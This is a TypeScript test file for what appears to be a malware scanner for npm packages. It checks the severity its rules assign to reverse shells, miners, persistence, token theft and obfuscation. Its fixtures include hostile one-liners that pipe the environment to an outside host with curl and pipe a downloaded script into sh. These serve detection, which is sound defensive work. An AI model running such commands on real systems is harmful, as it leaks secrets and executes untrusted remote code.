import { describe, expect, it } from 'vitest';
import type { Capability, TraitKind } from '../../../src/model/code-signs.ts';
import { type CodeGiven, type FileGiven, rows, script, trait } from './given.ts';

const lying = (file: FileGiven): CodeGiven => ({ files: { 'lib/a.js': file }, load: ['index.js'] });
const loaded = (file: FileGiven): CodeGiven => ({ files: { 'index.js': file }, load: ['index.js'] });
const started = (file: FileGiven): CodeGiven => ({ files: { 'a.js': file }, install: ['a.js'] });
const able = (file: FileGiven, ...capabilities: readonly Capability[]) => ({ ...file, capabilities });
const large = 32_001;

describe('what is enough by itself', () => {
  it.each<readonly [TraitKind, string, string[], string[], string[]]>([
    ['takes-input', 'C17', ['C17 high'], ['C17 high'], ['C17 high']],
    ['runs-data', 'C19', ['C19 high'], ['C19 high'], ['C19 notice']],
    ['alters-others', 'C20', ['C20 high'], ['C20 info'], ['C20 info']],
  ])('%s: %s', (kind, _row, atInstall, atImport, elsewhere) => {
    expect(rows(started(script(kind)))).toEqual(atInstall);
    expect(rows(loaded(script(kind)))).toEqual(atImport);
    expect(rows(lying(script(kind)))).toEqual(elsewhere);
    expect(rows(loaded({ ...script(kind), size: large }))).toEqual([]);
  });

  it('C18 asks about keys that are sent away, in a file of any size', () => {
    expect(rows(started(script('sends-keys')))).toEqual(['C18 high']);
    for (const size of [1_000, 200_000]) {
      const file = { ...script('sends-keys'), size };
      expect([loaded, lying].map((as) => rows(as(file)))).toEqual([['C18 high'], ['C18 notice']]);
    }
  });

  it.each<TraitKind>(['reverse-shell', 'miner', 'persistence'])('C21: %s', (kind) => {
    expect(rows(loaded(able(script(kind), 'child-process')))).toEqual(['C21 high']);
    expect(rows(lying(able(script(kind), 'child-process')))).toEqual(['C21 notice']);
    expect(rows(loaded(script(kind)))).toEqual([]);
  });

  it('C29 asks about what is made a program by no name', () => {
    const traits = script(trait('runs-text', { what: 'by a constructor that goes by no name' }));
    expect(rows(loaded(traits))).toEqual(['C29 high']);
    expect(rows(lying(traits))).toEqual(['C29 notice']);
    expect(rows(loaded({ ...traits, size: large }))).toEqual([]);
  });

  it('C20 asks about sabotage, and about a neighbour that is changed by what talks to somebody', () => {
    const alters = (what: string) => script(trait('alters-others', { what }));
    const beside = 'a script of a package beside it';
    expect(rows(loaded(alters('what is built in, by chance')))).toContain('C20 high');
    expect(rows(loaded(able(alters(beside), 'network')))).toContain('C20 high');
    expect(rows(loaded(alters(beside)))).toEqual(['C20 info']);
  });

  it('C17 leaves the receivers of tests alone', () => {
    const copy = script(trait('takes-input', { what: 'a copy of each mail' }));
    expect(rows(loaded(copy))).toEqual(['C17 high']);
    expect(rows(lying(copy))).toEqual([]);
  });

  it('C5 asks about what is encoded to fit into names', () => {
    const asks = script(trait('dns-exfiltration', { what: 'encoded to fit into names' }));
    expect(rows(loaded(asks))).toEqual(['C5 block']);
    expect(rows(loaded(script('dns-exfiltration')))).toEqual(['C5 info']);
  });

  it("C21 asks about a key of one's own among those that may log in", () => {
    const key = script(trait('persistence', { what: '~/.ssh/authorized_keys' }));
    expect(rows(loaded(able(key, 'file-write')))).toEqual(['C21 high']);
  });

  it('C21 notes what a command offers, and a service of the whole machine', () => {
    const starts = (what: string) => able(script(trait('persistence', { what })), 'file-write');
    const bins = JSON.stringify([['a', 'index.js']]);
    expect(rows({ ...loaded(starts('.zshrc')), manifest: { bins } })).toEqual(['C21 notice']);
    expect(rows(loaded(starts('.zshrc')))).toEqual(['C21 high']);
    expect(rows(loaded(starts('/etc/systemd/system')))).toEqual(['C21 notice']);
  });

  it('C14 asks about a command that takes the environment along', () => {
    const dump = (excerpt: string) => able(script(trait('environment-dump', { excerpt })), 'child-process');
    expect(rows(loaded(dump('curl -d "$(env | base64)" https://a.example')))).toEqual(['C14 high']);
    expect(rows(loaded(dump('const shown = "$(env | grep PATH)"')))).toEqual([]);
  });

  it('C7 asks about what a prepare script starts', () => {
    const clone = { files: [{ path: 'a.js', depth: 0, by: 'prepare' }] };
    expect(rows({ files: { 'a.js': script('hex-names') }, clone })).toEqual(['C7 high']);
    expect(rows({ files: { 'a.js': script('hex-names') } })).toEqual([]);
  });

  it('C16 asks about brackets that an import runs', () => {
    expect(rows(loaded(script('jsfuck')))).toEqual(['C16 high']);
    expect(rows(lying(script('jsfuck')))).toEqual([]);
  });

  it('C16 asks about words of a turned table, however many they are', () => {
    const turned = script(trait('packer', { what: 'a turned table of strings' }));
    expect(rows(loaded({ ...turned, size: large }))).toEqual(['C16 high']);
    expect(rows(lying(turned))).toEqual([]);
    const bins = JSON.stringify([['a', 'index.js']]);
    expect(rows({ ...loaded(turned), manifest: { bins } })).toEqual(['C16 notice']);
    expect(rows(loaded(script('packer')))).toEqual([]);
  });

  it('C21 asks about a page that is had to mine: it starts nothing', () => {
    expect(rows(loaded(script(trait('miner', { what: 'in a page' }))))).toEqual(['C21 high']);
  });

  it.each<TraitKind>(['runs-fetched', 'runs-dropped', 'sends-file'])('C24: %s', (kind) => {
    expect(rows(lying({ ...script(kind), hosts: ['c2.example'] }))).toEqual(['C24 high']);
    expect(rows(lying(script(kind)))).toEqual(['C24 high']);
    expect(rows(lying({ ...script(kind), hosts: ['github.com'] }))).toEqual(['C24 notice']);
    expect(rows(loaded({ ...script(kind), size: 5_000_000 }))).toEqual(['C24 high']);
  });

  it('C25 asks about what takes its own file away after it reached out', () => {
    expect(rows(lying(able(script('deletes-itself'), 'network')))).toEqual(['C25 high']);
    expect(rows(lying(able(script('deletes-itself'), 'child-process')))).toEqual(['C25 high']);
    expect(rows(lying(able(script('deletes-itself'), 'file-write')))).toEqual([]);
  });
});

describe('what is fetched and run', () => {
  it('C6 asks about a pipe into a shell that an import may run, but for well-known installers', () => {
    const pipe = (excerpt: string) => able(script(trait('pipe-to-shell', { excerpt })), 'child-process');
    expect(rows(loaded(pipe('curl https://a.example | sh')))).toContain('C6 high');
    expect(rows(loaded(pipe('curl https://sh.rustup.rs | sh')))).toEqual(['C6 notice']);
    expect(rows(lying(pipe('curl https://a.example | sh')))).toEqual(['C6 notice']);
  });

  it('C15 asks where a host of its own is named, and not of loaders', () => {
    const runs = able(script('runs-text'), 'network', 'dynamic-code');
    expect(rows(loaded({ ...runs, hosts: ['c2.example'] }))).toContain('C15 high');
    expect(rows(loaded(runs))).toEqual(['C15 notice']);
    expect(rows(loaded({ ...runs, hosts: ['github.com', 'www.w3.org'] }))).toEqual(['C15 notice']);
  });

  it("C8 asks about npm's token beside the machine's name", () => {
    const takes = able(script('npm-credentials', 'host-facts'), 'network');
    expect(rows(loaded({ ...takes, hosts: ['c2.example'] }))).toEqual(['C8 high']);
    // A name is chosen by whoever publishes it.
    const manifest = { name: 'npm-colours' };
    expect(rows({ ...loaded({ ...takes, hosts: ['c2.example'] }), manifest })).toEqual(['C8 high']);
    expect(rows(lying({ ...takes, hosts: ['c2.example'] }))).toEqual(['C8 notice']);
    expect(rows(loaded(takes))).toEqual([]);
  });

  it('C8 asks about a token that is looked up and published with, whatever hosts are named', () => {
    const spreads = able(script('npm-credentials', 'token-route', 'self-publish'), 'network');
    expect(rows(loaded(spreads))).toContain('C8 high');
    expect(rows(loaded(able(script('npm-credentials', 'token-route'), 'network')))).not.toContain('C8 high');
  });

  it('E9 asks about a small file that keeps an address in an encoding and can go there', () => {
    const hiding = script('encoded-text');
    for (const one of ['network', 'child-process', 'dynamic-code'] as const) {
      expect(rows(loaded(able(hiding, one)))).toContain('E9 high');
      expect(rows(lying(able(hiding, one)))).toContain('E9 high');
    }
    expect(rows(loaded({ ...able(hiding, 'network'), size: large }))).not.toContain('E9 high');
    expect(rows(loaded(able(hiding, 'file-write')))).not.toContain('E9 high');
    expect(rows(loaded(able(script('decodes'), 'network')))).not.toContain('E9 high');
  });
});
